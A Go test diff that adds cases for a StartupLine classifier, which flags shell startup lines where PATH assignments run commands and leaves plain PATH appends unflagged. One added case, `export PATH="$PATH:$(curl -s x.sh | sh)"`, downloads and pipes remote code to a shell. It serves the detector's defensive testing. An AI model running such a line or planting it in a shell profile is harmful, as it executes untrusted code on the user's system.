@@ -31,6 +31,13 @@ func TestStartupLine(t *testing.T) {
 		`fish_add_path ~/x`,
 		`export ENV=$HOME/.shrc`,
 		`[ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"`,
+		// Appends that run a command, or append and prepend at once.
+		`export PATH="$PATH:$(curl -s x.sh | sh)"`,
+		"export PATH=$PATH:`id -u`",
+		`PATH=$PATH:$(x)`,
+		`export PATH=$PATH:/opt/x PATH=/p/.bin:$PATH`,
+		`export PATH=$PATH:/opt/x; source ~/.x`,
+		`PATH+=$(x)`,
 	}
 	ordinary := []string{
 		`# export CLAUDE_CONFIG_DIR=/tmp/cc`,
@@ -48,6 +55,11 @@ func TestStartupLine(t *testing.T) {
 		`NODE_ENV=development`,
 		`export GITHUB_TOKEN=x`,
 		`export GOPATH=$HOME/go`,
+		// Appending to PATH searches the folder last: a tool installed.
+		`export PATH=$PATH:$HOME/go/bin`,
+		`export PATH="$PATH:/usr/local/go/bin"`,
+		`PATH="${PATH}:$HOME/.local/share/pnpm"`,
+		`PATH+=:~/tools/bin`,
 	}
 	for _, l := range counts {
 		if !StartupLine(l) {
